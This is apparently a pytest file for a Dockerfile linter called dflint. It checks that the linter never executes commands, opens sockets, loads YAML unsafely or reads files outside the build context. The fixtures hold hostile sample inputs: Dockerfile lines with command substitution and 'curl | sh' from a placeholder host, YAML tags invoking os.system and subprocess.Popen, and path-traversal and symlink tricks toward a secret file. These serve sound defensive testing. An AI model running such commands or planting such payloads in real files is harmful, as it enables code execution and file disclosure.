"""The promises, each a test: dflint never executes anything from a Dockerfile, never opens a
network socket, loads YAML only with the safe loader, and never reads outside the build context."""

from __future__ import annotations

import builtins
import io
import os
import re
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from dflint.cli import main
from dflint.engine import Settings, lint_source
from dflint.registry import all_rules
from tests.corpus import corpus_files

ROOT = Path(__file__).resolve().parents[1]
EVERY_RULE = ",".join(rule.meta.code for rule in all_rules())
FORMATS = ("text", "json", "sarif", "github", "gitlab", "checkstyle")

HOSTILE = """\
# syntax=docker/dockerfile:1
ARG CANARY
FROM python:3.11-slim AS build
RUN touch {canary} && echo pwned > {canary}
RUN $(touch {canary}) `touch {canary}` && sh -c 'touch {canary}' && bash -lc "touch {canary}"
RUN curl -fsSL https://example.invalid/install.sh | sh
RUN pip install -r https://example.invalid/requirements.txt --index-url https://example.invalid/simple
ADD https://example.invalid/model.bin /models/
ADD git@github.com:example/repo.git /src
COPY --from=docker.io/library/alpine:3.20 /bin/busybox /bin/
RUN <<EOF
touch {canary}
python -c "import os; os.system('touch {canary}')"
EOF
FROM build
ONBUILD RUN touch {canary}
HEALTHCHECK CMD touch {canary} || exit 1
ENTRYPOINT ["sh", "-c", "touch {canary}"]
CMD touch {canary}
"""


def hostile(tmp_path: Path) -> tuple[Path, Path]:
    canary = tmp_path / "canary-was-executed"
    dockerfile = tmp_path / "ctx" / "Dockerfile"
    dockerfile.parent.mkdir(exist_ok=True)
    dockerfile.write_text(HOSTILE.format(canary=canary))
    (tmp_path / "ctx" / "requirements.txt").write_text("torch\n")
    return dockerfile, canary


def run_cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def sample_inputs(tmp_path: Path) -> list[str]:
    dockerfile, _ = hostile(tmp_path)
    return [str(dockerfile)] + [str(path) for path in corpus_files()[::25]]


# -- never executes anything ------------------------------------------------------------------------


def _forbidden(name: str) -> Any:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"dflint called {name}{args!r}")

    return refuse


@pytest.fixture
def no_execution(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(subprocess, "Popen", _forbidden("subprocess.Popen"))
    for name in ("run", "call", "check_call", "check_output", "getoutput", "getstatusoutput"):
        monkeypatch.setattr(subprocess, name, _forbidden(f"subprocess.{name}"))
    for name in dir(os):
        if name in ("system", "popen", "posix_spawn", "posix_spawnp", "forkpty") or name.startswith(("exec", "spawn")):
            monkeypatch.setattr(os, name, _forbidden(f"os.{name}"))
    import pty

    monkeypatch.setattr(pty, "spawn", _forbidden("pty.spawn"))
    yield


def test_never_executes_anything(tmp_path: Path, no_execution: None) -> None:
    dockerfile, canary = hostile(tmp_path)
    paths = sample_inputs(tmp_path)
    for output_format in FORMATS:
        code, _, stderr = run_cli("--jobs", "1", "--select", EVERY_RULE, "--format", output_format, *paths)
        assert code in (0, 1, 2), stderr
    run_cli("--jobs", "1", "--select", EVERY_RULE, "--fix", "--unsafe-fixes", str(dockerfile))
    run_cli("rules")
    for rule in all_rules():
        run_cli("explain", rule.meta.code)
    assert not canary.exists()


# -- never opens a network socket -------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    class NoSocket(socket.socket):
        def __init__(self, *args: object, **kwargs: object) -> None:
            raise AssertionError(f"dflint opened a socket {args!r}")

    monkeypatch.setattr(socket, "socket", NoSocket)
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "socketpair", "fromfd"):
        monkeypatch.setattr(socket, name, _forbidden(f"socket.{name}"))
    yield


def test_never_opens_a_socket(tmp_path: Path, no_network: None) -> None:
    paths = sample_inputs(tmp_path)
    for output_format in FORMATS:
        code, _, stderr = run_cli("--jobs", "1", "--select", EVERY_RULE, "--format", output_format, *paths)
        assert code in (0, 1, 2), stderr
    settings = Settings(select=tuple(EVERY_RULE.split(",")))
    text = (tmp_path / "ctx" / "Dockerfile").read_text()
    lint_source(text, "Dockerfile", settings, list(all_rules()), str(tmp_path / "ctx"))


# -- loads YAML only with the safe loader -----------------------------------------------------------

UNSAFE_YAML = (
    "select: !!python/object/apply:os.system ['touch {canary}']\n",
    "ignore: !!python/object/new:subprocess.Popen [['touch', '{canary}']]\n",
    "severity: !!python/object:builtins.dict {{}}\n",
    "select: !!python/name:os.system\n",
)


@pytest.mark.parametrize("document", UNSAFE_YAML, ids=lambda d: d.split("!!")[1].split()[0])
def test_python_tags_in_a_config_are_an_error(tmp_path: Path, document: str, no_execution: None) -> None:
    canary = tmp_path / "canary-was-executed"
    (tmp_path / ".dflint.yaml").write_text(document.format(canary=canary))
    (tmp_path / "Dockerfile").write_text("FROM python:3.11-slim\nRUN pip install --no-cache-dir torch==2.4.0\n")
    code, _, stderr = run_cli("--jobs", "1", str(tmp_path / "Dockerfile"))
    assert code == 2
    assert ".dflint.yaml" in stderr and "python/" in stderr, stderr
    assert not canary.exists()


def test_no_unsafe_yaml_loader_in_the_source() -> None:
    unsafe = re.compile(
        r"\byaml\.(load|load_all|unsafe_load|full_load)\(|Loader=yaml\.(Loader|UnsafeLoader|FullLoader)|yaml\.Unsafe"
    )
    for path in sorted((ROOT / "dflint").rglob("*.py")) + sorted((ROOT / "rules").rglob("*.py")):
        assert not unsafe.search(path.read_text(encoding="utf-8")), path


# -- never reads outside the build context ----------------------------------------------------------


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every path opened through open() / io.open() / os.open() (relative to `dir_fd` when given), resolved."""
    seen: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def spy_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, (str, bytes, os.PathLike)):
            seen.append(os.path.realpath(os.fsdecode(file)))
        return real_open(file, *args, **kwargs)

    def spy_os_open(path: Any, *args: Any, dir_fd: int | None = None, **kwargs: Any) -> int:
        name = os.fsdecode(path)
        if dir_fd is not None and not os.path.isabs(name):  # opened relative to a directory descriptor
            name = os.path.join(os.readlink(f"/proc/self/fd/{dir_fd}"), name)
        seen.append(os.path.realpath(name))
        return real_os_open(path, *args, dir_fd=dir_fd, **kwargs)

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(io, "open", spy_open)
    monkeypatch.setattr(os, "open", spy_os_open)
    return seen


def outside_world(tmp_path: Path) -> tuple[Path, Path]:
    """A build context, and a secret next to it (outside) that looks like a requirements file."""
    context = tmp_path / "project" / "ctx"
    context.mkdir(parents=True)
    secret = tmp_path / "secret-requirements.txt"
    secret.write_text("torch\n")
    return context, secret


def lint_context(context: Path, dockerfile: str, opened: list[str]) -> tuple[int, str]:
    (context / "Dockerfile").write_text(dockerfile)
    opened.clear()  # only what dflint opens
    code, stdout, stderr = run_cli(
        "--jobs", "1", "--select", EVERY_RULE, "--no-color", "--context", str(context), str(context / "Dockerfile")
    )
    return code, stdout + stderr


def df402_messages(output: str) -> list[str]:
    return [line for line in output.splitlines() if " DF402 " in line]


def test_a_requirements_path_out_of_the_context_is_not_read(tmp_path: Path, opened: list[str]) -> None:
    context, secret = outside_world(tmp_path)
    _, output = lint_context(
        context,
        "FROM python:3.11-slim\nWORKDIR /app\nCOPY ../../secret-requirements.txt requirements.txt\n"
        "RUN pip install --no-cache-dir -r requirements.txt\n",
        opened,
    )
    assert str(secret) not in opened
    (message,) = df402_messages(output)
    assert "outside the build context" in message and "not read" in message


def test_a_nested_include_out_of_the_context_is_not_read(tmp_path: Path, opened: list[str]) -> None:
    context, secret = outside_world(tmp_path)
    (context / "requirements.txt").write_text("-r ../../secret-requirements.txt\nnumpy==1.26.4\n")
    _, output = lint_context(
        context,
        "FROM python:3.11-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\n",
        opened,
    )
    assert str(secret) not in opened
    assert str(context / "requirements.txt") in opened  # the file inside is read
    assert any("outside the build context" in message for message in df402_messages(output)), output


def test_an_absolute_path_is_not_read_from_the_host(tmp_path: Path, opened: list[str]) -> None:
    context, secret = outside_world(tmp_path)
    _, output = lint_context(
        context,
        f"FROM python:3.11-slim\nCOPY {secret} /app/requirements.txt\nRUN pip install --no-cache-dir -r /app/requirements.txt\n"
        f"RUN pip install --no-cache-dir -r {secret}\n",
        opened,
    )
    assert str(secret) not in opened
    messages = df402_messages(output)
    assert len(messages) == 2, output
    assert any("does not exist in the build context" in message for message in messages), messages
    assert any("no COPY or ADD puts" in message for message in messages), messages


def test_a_symlink_out_of_the_context_is_not_followed(tmp_path: Path, opened: list[str]) -> None:
    context, secret = outside_world(tmp_path)
    (context / "requirements.txt").symlink_to(secret)
    (context / "deps").symlink_to(tmp_path, target_is_directory=True)
    (context / ".dockerignore").symlink_to(secret)
    _, output = lint_context(
        context,
        "FROM python:3.11-slim\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\n"
        "RUN pip install --no-cache-dir -r deps/secret-requirements.txt\n",
        opened,
    )
    assert str(secret) not in opened
    messages = df402_messages(output)
    assert len(messages) == 2, output
    assert all("outside the build context (a symlink)" in message and "not read" in message for message in messages), messages
